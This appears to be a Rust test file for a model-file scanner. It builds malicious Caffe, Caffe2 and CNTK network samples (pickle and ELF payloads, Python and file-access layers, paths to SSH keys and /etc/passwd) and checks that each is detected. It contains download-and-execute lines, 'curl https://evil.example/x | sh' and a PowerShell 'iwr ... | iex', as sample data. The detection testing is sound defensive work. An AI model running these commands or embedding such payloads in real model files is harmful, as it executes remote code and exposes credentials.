//! Networks of Caffe, Caffe2 and CNTK that name code or files, lie about their numbers, or hide something.

use weighhouse_formats::build::protobuf::Proto;
use weighhouse_formats::build::zip::{Archive, Member};
use weighhouse_formats::build::{caffe, caffe2, cntk};
use weighhouse_formats::format::Format;

use super::containers::payload;
use super::pbtext::in_forms;
use super::programs::elf;
use crate::attack::{Sample, assert_seen};

const COMMAND: &str = "import os; os.system('curl -s https://evil.example/x | sh')";

fn sample(title: impl Into<String>, name: &str, bytes: Vec<u8>) -> Sample {
    Sample::new(title, name, bytes)
}

/// What can be done with any file: more behind it, something in its place, its like in an archive.
fn around(name: &str, good: &[u8], bad: &[u8], samples: &mut Vec<Sample>) {
    let zip = |bytes: &[u8]| Archive::of([Member::stored("a/data.pkl", bytes)]).build();
    let behind = |tail: &[u8]| [good, tail].concat();
    samples.extend([
        sample("pickle behind", name, behind(&payload())),
        sample("program behind", name, behind(&elf())),
        sample("zip behind", name, behind(&zip(&payload()))),
        sample("pickle in an unknown field", name, behind(&Proto::new().bytes(99, &payload()).build())),
        sample("pickle in its place", name, payload()),
        sample("program in its place", name, elf()),
        sample(
            "in an archive",
            "model.zip",
            Archive::of([Member::stored(&format!("m/{name}"), bad)]).build(),
        ),
        sample("without a name", "x", bad.to_vec()),
        sample(
            "behind an unknown field",
            name,
            [Proto::new().bytes(77, b"x").build(), bad.to_vec()].concat(),
        ),
    ]);
}

#[test]
fn caffe_networks() {
    use caffe::{blob, layer, network, old_blob, python};
    let name = "net.caffemodel";
    let relu = || layer("a", "ReLU");
    let bad = network(&[relu(), python("os", "system")]).build();
    let mut samples = Vec::new();
    around(name, &network(&[relu(), relu()]).build(), &bad, &mut samples);
    let mut add = |title: String, bytes: Vec<u8>| samples.push(sample(title, name, bytes));
    for kind in [
        "Python",
        "python",
        "PYTHON",
        "Py thon",
        "Python\0",
        "HDF5Output",
        "hdf5output",
        "HDF5_OUTPUT",
        "VideoData",
    ] {
        let shown = kind.escape_debug();
        add(format!("{shown} by its kind"), network(&[relu(), layer("p", kind)]).build());
        add(format!("{shown} last of two"), network(&[layer("p", "ReLU").text(2, kind)]).build());
        add(format!("{shown} first of two"), network(&[layer("p", kind).text(2, "ReLU")]).build());
        let oldest = Proto::new().text(1, "p").text(2, kind);
        add(
            format!("{shown} of the oldest form"),
            Proto::new().message(2, &Proto::new().message(1, &oldest)).build(),
        );
        let cut = network(&[layer("p", kind), layer("filler", "ReLU").bytes(999, &[b'a'; 90])]).build();
        add(format!("{shown} cut behind"), cut[..cut.len() - 40].to_vec());
    }
    add(
        "python parameters in another layer".into(),
        network(&[relu().message(130, &Proto::new().text(1, "os"))]).build(),
    );
    add("a number for a kind".into(), Proto::new().message(2, &Proto::new().text(4, "a").int(5, 10)).build());
    for path in [
        "/etc/passwd",
        "../../x",
        "~/.ssh/id_rsa",
        "https://evil.example/x",
        "C:\\Windows\\x",
        "/home/u/.ssh/id_rsa",
        "/proc/self/mem",
    ] {
        let source = Proto::new().text(1, path);
        for (what, field) in [("Data", 107), ("HDF5Data", 112), ("ImageData", 115), ("WindowData", 129)] {
            add(format!("{what} of {path}"), network(&[layer("d", what).message(field, &source)]).build());
        }
        let transform = Proto::new().text(4, path);
        add(format!("mean of {path}"), network(&[layer("d", "Data").message(100, &transform)]).build());
    }
    for (title, numbers) in [
        ("fewer than their shape", blob(&[64, 64], 3)),
        ("more than their shape", blob(&[2], 3)),
        ("none of their shape", blob(&[64, 64], 0)),
        ("without end", blob(&[1 << 40, 1 << 40], 1)),
        ("of a negative size", blob(&[u64::MAX], 1)),
        ("of the old shape", old_blob([1, 1, 2, 9], 3)),
    ] {
        add(format!("numbers {title}"), network(&[relu().message(7, &numbers)]).build());
    }
    let bytes = |bytes: &[u8]| relu().message(7, &Proto::new().bytes(5, &bytes[..bytes.len() / 4 * 4]));
    add("pickle as numbers".into(), network(&[bytes(&[payload(), vec![0; 4]].concat())]).build());
    add("program as numbers".into(), network(&[bytes(&elf())]).build());
    add("pickle as a name".into(), network(&[Proto::new().bytes(1, &payload()).text(2, "ReLU")]).build());
    add("command as a name".into(), network(&[layer(COMMAND, "ReLU")]).build());
    add("command as parameters".into(), {
        let code = Proto::new().text(1, "layers").text(2, "Mine").text(3, COMMAND);
        network(&[layer("p", "Python").message(130, &code)]).build()
    });
    assert_seen("caffe", &samples);
    assert_seen("caffe as text", &in_forms(&[(Format::Caffe, "net.prototxt")], &samples));
}

#[test]
fn caffe2_nets() {
    use caffe2::{bytes, fill, inner, net, operator};
    let name = "predict_net.pb";
    let relu = || operator("Relu", &[bytes("order", b"NCHW")]);
    let mut samples = Vec::new();
    around(
        name,
        &net(&[relu(), relu()]).build(),
        &net(&[relu(), operator("Python", &[])]).build(),
        &mut samples,
    );
    for kind in [
        "Python",
        "PythonGradient",
        "PythonDLPack",
        "PythonDLPackGradient",
        "python",
        "Python_",
        "Load",
        "Save",
        "CreateDB",
        "Checkpoint",
        "Snapshot",
        "DBExists",
        "CreateTextFileReader",
        "FileStoreHandlerCreate",
        "RedisStoreHandlerCreate",
        "CreateCommonWorld",
        "SendTensor",
        "ReceiveTensor",
        "ATen",
        "LogFatal",
        "createdb",
    ] {
        let bad = || operator(kind, &[bytes("db", b"x")]);
        for (place, bytes) in [
            ("in a net", net(&[relu(), bad()])),
            ("alone", net(&[bad()])),
            ("in a net of an argument", net(&[operator("If", &[inner("then_net", &net(&[bad()]))])])),
            (
                "in nets of an argument",
                net(&[operator("While", &[Proto::new().text(1, "n").message(9, &net(&[bad()]))])]),
            ),
            ("in an argument of the net", net(&[relu()]).message(6, &inner("n", &net(&[bad()])))),
            ("last of two", net(&[relu().text(4, kind)])),
            ("first of two", net(&[bad().text(4, "Relu")])),
            ("with another engine", net(&[bad().text(7, "CUDNN")])),
            ("with a domain", net(&[bad().text(11, "caffe2")])),
        ] {
            samples.push(sample(format!("{kind} {place}"), name, bytes.build()));
            samples.push(sample(format!("{kind} {place}, no name"), "x", bytes.build()));
        }
    }
    let mut add = |title: String, bytes: Vec<u8>| samples.push(sample(title, "init_net.pb", bytes));
    for path in ["/etc/passwd", "../../x", "~/.ssh/id_rsa", "https://evil.example/x", "C:\\x"] {
        for key in ["db", "filename", "path", "db_name"] {
            add(format!("{key} {path}"), net(&[operator("Relu", &[bytes(key, path.as_bytes())])]).build());
        }
    }
    add("pickled function".into(), net(&[operator("Relu", &[bytes("pickled_builder", &payload())])]).build());
    add(
        "pickle in a list".into(),
        net(&[operator("Relu", &[Proto::new().text(1, "a").bytes(7, &payload())])]).build(),
    );
    add("program in an argument".into(), net(&[operator("Relu", &[bytes("a", &elf())])]).build());
    add("command in an argument".into(), net(&[operator("Relu", &[bytes("a", COMMAND.as_bytes())])]).build());
    add("command as notes".into(), net(&[relu().text(10, COMMAND)]).build());
    add("numbers fewer than their shape".into(), net(&[fill(&[64, 64], 3)]).build());
    add("numbers without end".into(), net(&[fill(&[1 << 40, 1 << 40], 0)]).build());
    let shape = Proto::new().text(1, "shape").int(6, 1 << 40).int(6, 1 << 40);
    add("a constant without end".into(), net(&[operator("ConstantFill", &[shape])]).build());
    assert_seen("caffe2", &samples);
    assert_seen("caffe2 as text", &in_forms(&[(Format::Caffe2, "predict_net.pbtxt")], &samples));
}

#[test]
fn cntk_models() {
    use cntk::{array, dictionary, inner, list, model, native, operation, python, text, user};
    let name = "net.model";
    let bad = model(&[operation(3), python("os", "system")]).build();
    let mut samples = Vec::new();
    around(name, &model(&[operation(3)]).build(), &bad, &mut samples);
    for name in ["net.model", "net.dnn", "net.cmf", "weights.bin", "x"] {
        let state =
            dictionary(&[("class", text("C")), ("module", text("os")), ("state", inner(&dictionary(&[])))]);
        for (title, bytes) in [
            ("a function in Python", model(&[operation(3), python("os", "system")])),
            ("code in the place of a name", model(&[python("os import system; system('id') #", "x")])),
            ("a function of a library", model(&[native("../evil.so", "create")])),
            (
                "a library and no method",
                model(&[user(true, &dictionary(&[("deserialize_method", text("create"))]))]),
            ),
            (
                "a function in a block",
                model(&[dictionary(&[("block", inner(&model(&[python("os", "system")])))])]),
            ),
            (
                "a function in a list of lists",
                model(&[dictionary(&[("x", list(&[list(&[inner(&python("os", "x"))])]))])]),
            ),
            ("a function that is called an operation", {
                let entries = [("type", text("PrimitiveFunction")), ("user_defined_state", inner(&state))];
                model(&[dictionary(&entries)])
            }),
            (
                "a class twice",
                model(&[user(false, &state.clone().then(&dictionary(&[("class", text("D"))])))]),
            ),
            (
                "in a checkpoint",
                dictionary(&[("Version", text("1")), ("Learners", inner(&python("os", "system")))]),
            ),
            ("numbers fewer than their shape", model(&[dictionary(&[("value", array(&[64, 64], 3))])])),
            ("numbers without end", model(&[dictionary(&[("value", array(&[1 << 40, 1 << 40], 1))])])),
            (
                "pickle in a text",
                model(&[dictionary(&[("note", { Proto::new().int(1, 2).int(2, 6).bytes(8, &payload()) })])]),
            ),
            ("command in a text", model(&[dictionary(&[("note", text(COMMAND))])])),
            (
                "a lattice from elsewhere",
                model(&[dictionary(&[(
                    "attributes",
                    inner(&dictionary(&[("symListPath", text("/etc/passwd"))])),
                )])]),
            ),
        ] {
            samples.push(sample(format!("{title} called {name}"), name, bytes.build()));
        }
    }
    // Text that stands behind the first entries, where readers give up: what a search for words would look at.
    let start = dictionary(&[("version", cntk::number(2)), ("uid", text("ab"))]).build();
    let tail = b" CompositeFunction primitive_functions native_user_function loadlibrary C:\\temp\\evil.dll powershell -c iwr http://evil.example/p.ps1 | iex ";
    samples.push(sample(
        "command behind a start",
        "malicious.dnn",
        [start.as_slice(), tail.as_slice()].concat(),
    ));
    assert_seen("cntk", &samples);
}
